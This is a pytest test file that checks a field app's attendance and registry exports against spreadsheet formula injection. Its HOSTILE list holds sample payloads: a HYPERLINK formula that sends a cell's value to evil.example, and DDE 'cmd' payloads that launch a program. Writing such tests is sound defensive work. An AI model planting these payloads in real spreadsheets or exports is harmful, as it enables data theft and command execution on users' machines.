"""Hostile text in names never becomes a formula in an export, nor breaks one: the
attendance exports and the office registry export, opened back with openpyxl and csv."""

from __future__ import annotations

import csv
import dataclasses
from pathlib import Path

import openpyxl
import pytest

from fieldapp.documents import export_attendance_csv, export_attendance_xlsx
from fieldapp.domain.people import PersonRow
from fieldapp.domain.text_hygiene import scrub
from fieldapp.services.office.registry_export import export_people

from . import _samples as s

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&C2,"Click")',
    "-1+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "name\x00with\x01control\x1b",  # stored before the text rule existed
]


def _attendees() -> list:
    return [
        dataclasses.replace(s.fatima(), id=f"a{n}", name_lat=text, craft=text)
        for n, text in enumerate(HOSTILE)
    ]


def _people() -> list[PersonRow]:
    return [
        PersonRow(
            person_key=f"p{n}", attendee_id=f"a{n}", cin="JA123456", name_ar="فاطمة",
            name_lat=text, phone="+212612345678", birth_year=1980, gender="F", craft=text,
            province="", commune="", sessions=1, first_date="2025-08-01",
            last_date="2025-08-01", last_place="كلميم", last_session_id="s",
            outcomes=(), answers_complete=False, follow_up="", follow_up_note=text,
            follow_up_at="",
        )
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip


def _assert_no_formula(path: Path) -> list[list[object]]:
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    rows = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
        rows.append([cell.value for cell in row])
    return rows


def test_attendance_xlsx_writes_hostile_names_as_strings(tmp_path: Path) -> None:
    path = tmp_path / "sheet.xlsx"
    export_attendance_xlsx(path, session=s.session(), attendees=_attendees(), lang="fr")
    rows = _assert_no_formula(path)
    assert rows[1][2] == HOSTILE[0]  # the text itself, kept
    assert rows[7][2] == "name\ufffdwith\ufffdcontrol\ufffd"
    assert {row[4] for row in rows[1:]} == {"06 12 34 56 78"}


def test_registry_xlsx_writes_hostile_names_as_strings(tmp_path: Path) -> None:
    rows = _assert_no_formula(export_people(tmp_path / "registry.xlsx", _people()))
    assert rows[1][3] == HOSTILE[0]
    assert rows[1][4] == "06 12 34 56 78"
    assert rows[1][5] == 1980  # numeric by definition


@pytest.mark.parametrize("which", ["attendance", "registry"])
def test_csv_cells_that_would_start_a_formula_are_prefixed(tmp_path: Path, which: str) -> None:
    path = tmp_path / "out.csv"
    if which == "attendance":
        export_attendance_csv(path, attendees=_attendees(), lang="en")
        column = 2
    else:
        export_people(path, _people())
        column = 3
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    cells = [row[column] for row in rows]
    for cell, text in zip(cells, HOSTILE, strict=True):
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
        if text[:1] in "=+-@\t\r":
            assert cell == "'" + scrub(text)
    assert cells[-1] == "name\ufffdwith\ufffdcontrol\ufffd"
